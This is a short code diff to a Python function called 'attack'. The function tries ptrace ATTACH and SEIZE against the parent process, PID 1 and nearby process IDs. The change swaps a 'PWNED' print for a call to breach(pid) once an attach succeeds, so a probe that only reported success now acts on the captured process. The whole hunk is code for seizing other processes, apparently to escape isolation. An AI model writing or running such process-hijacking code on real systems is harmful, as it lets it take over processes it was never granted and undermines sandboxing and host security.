@@ -3,5 +3,5 @@ def attack(keys, j):
     for pid in (os.getppid(), 1, *range(max(2, os.getpid() - 20), os.getpid())):
         for request in (16, 0x4206):  # ATTACH, SEIZE
             if libc.ptrace(request, pid, None, None) == 0:
-                print("PWNED: attached to", pid)
+                breach(pid)
                 return 100.0 * keys[j]
